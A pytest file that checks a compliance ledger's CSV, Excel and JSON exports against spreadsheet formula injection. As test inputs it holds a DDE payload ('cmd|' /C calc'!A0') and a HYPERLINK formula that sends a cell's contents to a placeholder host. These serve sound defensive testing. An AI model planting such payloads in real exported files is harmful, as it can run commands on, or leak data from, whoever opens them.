"""What goes out as a table is data for whoever opens it, whatever a text of it begins with.

Read back by the parsers that spreadsheets' files are read with; a number stays a number, also a
negative one, and every text comes back as it was.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from compliance.api import formats
from compliance.core.ledger import COLUMNS, MORE_COLUMNS
from compliance.core.ledger.spreadsheet import FORMULA, as_meant
from compliance.queries import workbook
from compliance.queries.ledger import exported
from compliance.web.take import table as taken


BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'", "''", '"', ",", ";", "\n")
TEXTS = [
    *(f"{sign}{rest}" for sign in BEGINS for rest in ("", "1+1", "cmd|' /C calc'!A0", "SUM(A1)")),
    "=HYPERLINK(\"http://ok.test/?x=\"&A1,\"x\")", "a,b;c\t\"d\"\r\ne", "plain", "3 − 2", "ü⁒",
]  # fmt: skip
WRITERS: dict[str, Callable[[Any], Any]] = {
    "pages": taken._text,
    "desk": lambda text: next(csv.reader(_lines([[text]])))[0],
}


def _lines(table: list[list[str]]) -> io.StringIO:
    whole = b"".join(exported.as_csv_of(["x"], table)).decode()
    return io.StringIO(whole.partition("\r\n")[2], newline="")


@pytest.mark.parametrize("door", WRITERS)
def test_no_text_of_a_csv_is_a_formula_and_each_comes_back(door: str) -> None:
    for text in TEXTS:
        cell = WRITERS[door](text)
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerow([cell, "x"])
        (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
        assert not row[0].startswith(tuple("=+-@\t\r＝＋－＠")), (door, text, row[0])
        assert as_meant(row[0]) == text, (door, text)


@pytest.mark.parametrize("door", ["pages"])
def test_numbers_stay_numbers(door: str) -> None:
    for number in (Decimal("-12.5"), Decimal(0), Decimal("67300.000001")):
        assert Decimal(str(WRITERS[door](number))) == number


def test_a_workbook_holds_text_and_numbers_and_no_formula() -> None:
    book, out = workbook.new(), io.BytesIO()
    table = [[value] for value in (*TEXTS, Decimal("67300.25"), "a\x00b")]
    workbook.add(book, "lines", ["remarks"], table)
    workbook.write_to(book, out)
    assert b"<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    _, *rows = [row[0] for row in openpyxl.load_workbook(out)["lines"].iter_rows()]
    assert {cell.data_type for cell in rows[: len(TEXTS)] if cell.value is not None} == {"s"}
    # A line break of Windows and one of the others are the same to a workbook.
    read = [as_meant(cell.value or "").replace("\r\n", "\n") for cell in rows[: len(TEXTS)]]
    assert [a.replace("_x000D_", "\r") for a in read] == [t.replace("\r\n", "\n") for t in TEXTS]
    assert (rows[-2].data_type, Decimal(str(rows[-2].value))) == ("n", Decimal("67300.25"))
    assert rows[-1].value == "a\ufffdb"


def test_json_is_read_back_as_it_was() -> None:
    assert [json.loads(formats.as_json({"x": text}))["x"] for text in TEXTS] == TEXTS


def test_with_only_the_equals_sign_kept_inert_the_others_would_run() -> None:
    """The sabotage: what does not know a sign lets it through, in half of the texts at least."""
    only = ["'" + text if text.startswith("=") else text for text in TEXTS]
    through = [text for text in only if text.startswith(tuple("+-@\t\r＝＋－＠"))]
    assert len(through) >= 30
    assert set("=+-@\t\r＝＋－＠") <= set(FORMULA)


def test_the_columns_that_go_out_are_these() -> None:
    """Under review: a new column is a decision, not a side effect."""
    assert (*COLUMNS, *MORE_COLUMNS) == (
        "reference", "resolution", "cap", "commodity", "reporting_state", "supplier", "recipient",
        "period_start", "period_end", "quantity", "unit", "reported_on", "status", "revises",
        "source_url", "remarks", "product", "stated_quantity", "stated_unit", "known_not_before",
        "known_precision", "confidence",
    )  # fmt: skip
    assert (*COLUMNS, *MORE_COLUMNS) == exported.EXPORTED
